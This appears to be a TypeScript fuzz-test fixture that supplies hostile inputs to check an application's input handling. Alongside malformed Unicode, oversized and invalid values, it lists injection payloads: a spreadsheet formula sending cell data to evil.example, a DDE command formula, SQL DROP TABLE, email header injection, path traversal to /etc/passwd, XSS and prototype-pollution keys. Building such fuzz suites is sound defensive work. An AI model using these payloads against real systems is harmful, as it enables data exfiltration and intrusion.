// Hostile values for the fuzzers: what an attacker types or posts. Strings PostgreSQL cannot store,
// broken and direction-changing Unicode, a megabyte, numbers no column holds, impossible dates, wrong
// types and shapes.
import fc from 'fast-check';

export const MEGABYTE = 'x'.repeat(1_000_000);

export const HOSTILE_STRINGS = [
  '\u0000',
  'a\u0000b',
  '\uD800',
  'x\uDC00y',
  '\uDBFF\uDBFF',
  'invoice\u202Efdp.exe',
  '\u2066\u2067\u2068\u2069',
  '\u202A\u202B\u202C\u202D',
  '=HYPERLINK("http://evil.example/?d="&A2,"x")',
  '+cmd|"/c calc"!A0',
  '',
  ' ',
  '\r\nBcc: victim@evil.example',
  '9999999999999999999',
  '-9223372036854775809',
  '1e309',
  '-1',
  'NaN',
  '2026-13-45',
  '2026-13-45T99:99',
  '0000-00-00T00:00',
  '2026-02-30',
  "'; DROP TABLE \"User\";--",
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '%00',
  'ja',
  'xx',
  'null',
  '{"$gt":""}',
  // Escapes that a JSON, URL or CSV reader inside an action decodes into what the gate refuses or drops.
  '{"k":"\\u0000"}',
  '{"k":"\\u202e"}',
  '{"k":"\\ud800"}',
  '%E2%80%AE',
  '%ED%A0%80',
  '"a\u202Eb",x',
  '北京航空航天大学',
  '𠮷野家😀',
] as const;

export const hostileString = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.constant(MEGABYTE) },
  // U+FFFD itself is what a stored lone surrogate turns into: the stored-text check looks for it.
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }).filter((s) => !s.includes('\uFFFD')) },
  { weight: 1, arbitrary: fc.uuid() },
);

export const hostileNumber = fc.oneof(
  fc.constantFrom(Number.MAX_SAFE_INTEGER + 2, -Number.MAX_SAFE_INTEGER * 4, 1e308, -0, Number.NaN, Infinity, -Infinity, 2 ** 31, -1, 0.5),
  fc.integer(),
  fc.double(),
);

/** Any hostile value, nested a little: wrong types and shapes included. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { maxDepth: 2, depthIdentifier: 'hostile' },
    { weight: 5, arbitrary: hostileString },
    { weight: 2, arbitrary: hostileNumber },
    { weight: 1, arbitrary: fc.constantFrom(null, undefined, true, false) },
    { weight: 1, arbitrary: fc.date({ noInvalidDate: false }) },
    { weight: 1, arbitrary: fc.bigInt() },
    { weight: 1, arbitrary: fc.array(tie('value'), { maxLength: 3, depthIdentifier: 'hostile' }) },
    { weight: 1, arbitrary: fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'id', 'x', '\u0000k', 'data'), tie('value'), { maxKeys: 3, depthIdentifier: 'hostile' }) },
  ),
})).value;

/** Fixed seed: the suite is the same on every run; FUZZ_SEED explores others. */
export const FUZZ_SEED = Number(process.env.FUZZ_SEED ?? 20261203);
